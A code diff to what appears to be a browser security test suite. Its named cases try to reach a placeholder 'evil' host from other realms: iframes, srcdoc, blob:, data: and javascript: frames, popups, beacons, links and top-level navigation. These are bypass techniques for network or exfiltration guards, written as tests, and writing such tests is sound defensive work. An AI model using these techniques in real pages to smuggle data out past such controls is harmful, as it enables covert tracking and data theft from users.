@@ -1,7 +1,8 @@
 // Another realm has functions of its own: in a frame, a popup, a document made of nothing.
 export default {
   "a frame's fetch by contentWindow": ({ add, evil }) => add("iframe").contentWindow.fetch(evil, { mode: "no-cors" }),
-  "a frame's fetch by contentDocument": ({ add, evil }) => add("iframe").contentDocument.defaultView.fetch(evil, { mode: "no-cors" }),
+  "a frame's fetch by contentDocument": ({ add, evil }) =>
+    add("iframe").contentDocument.defaultView.fetch(evil, { mode: "no-cors" }),
   "a frame's fetch by index": ({ add, evil }) => {
     add("iframe");
     return window[0].fetch(evil, { mode: "no-cors" });
@@ -95,10 +96,11 @@ export default {
     add("iframe");
     window[0].document.write(script(`fetch("${evil}", { mode: "no-cors" })`));
   },
-  "srcdoc that runs script": ({ add, evil, script }) => add("iframe", { srcdoc: script(`fetch("${evil}", { mode: "no-cors" })`) }),
-  "srcdoc that sends a beacon when it goes": async ({ add, evil, script, sleep }) => {
+  "srcdoc that runs script": ({ add, evil, script }) =>
+    add("iframe", { srcdoc: script(`fetch("${evil}", { mode: "no-cors" })`) }),
+  "srcdoc that sends a beacon when it goes": async ({ add, evil, script }) => {
     const f = add("iframe", { srcdoc: script(`onpagehide = () => navigator.sendBeacon("${evil}", "x")`) });
-    await sleep(300);
+    await new Promise((resolve) => (f.onload = resolve));
     f.remove();
   },
   "srcdoc in srcdoc": ({ add, evil, script }) => {
@@ -111,8 +113,10 @@ export default {
     f.srcdoc = script(`fetch("${evil}", { mode: "no-cors" })`);
     document.body.append(f);
   },
-  "a blob: frame": ({ add, blob, evil, script }) => add("iframe", { src: blob(script(`fetch("${evil}", { mode: "no-cors" })`)) }),
-  "a data: frame": ({ add, evil, script }) => add("iframe", { src: "data:text/html," + script(`fetch("${evil}",{mode:"no-cors"})`) }),
+  "a blob: frame": ({ add, blob, evil, script }) =>
+    add("iframe", { src: blob(script(`fetch("${evil}", { mode: "no-cors" })`)) }),
+  "a data: frame": ({ add, evil, script }) =>
+    add("iframe", { src: "data:text/html," + script(`fetch("${evil}",{mode:"no-cors"})`) }),
   "a javascript: frame": ({ add, evil }) => add("iframe", { src: `javascript:fetch("${evil}",{mode:"no-cors"})` }),
   "a javascript: frame that becomes markup": ({ add, evil, script }) =>
     add("iframe", { src: `javascript:'${script(`fetch("${evil}",{mode:"no-cors"})`)}'` }),
@@ -149,7 +153,8 @@ export default {
     await sleep(200);
     return w.fetch(evil, { mode: "no-cors" });
   },
-  "a popup that is written": ({ evil, script }) => open("").document.write(script(`fetch("${evil}", { mode: "no-cors" })`)),
+  "a popup that is written": ({ evil, script }) =>
+    open("").document.write(script(`fetch("${evil}", { mode: "no-cors" })`)),
   "a popup's image": ({ evil }) => {
     const w = open("");
     w.document.body.append(Object.assign(w.document.createElement("img"), { src: evil }));
@@ -286,7 +291,8 @@ export default {
     add("iframe", { srcdoc: `<a href="${evil}" target="_blank">x</a>${script("document.querySelector('a').click()")}` }),
   "a link of srcdoc's at the top": ({ add, evil, script }) =>
     add("iframe", { srcdoc: `<a href="${evil}" target="_top">x</a>${script("document.querySelector('a').click()")}` }),
-  "srcdoc that sends the page away": ({ add, evil, script }) => add("iframe", { srcdoc: script(`top.location = "${evil}"`) }),
+  "srcdoc that sends the page away": ({ add, evil, script }) =>
+    add("iframe", { srcdoc: script(`top.location = "${evil}"`) }),
   "a sandboxed frame that sends the page away": ({ add, evil, script }) => {
     const f = document.createElement("iframe");
     f.sandbox = "allow-scripts allow-top-navigation";
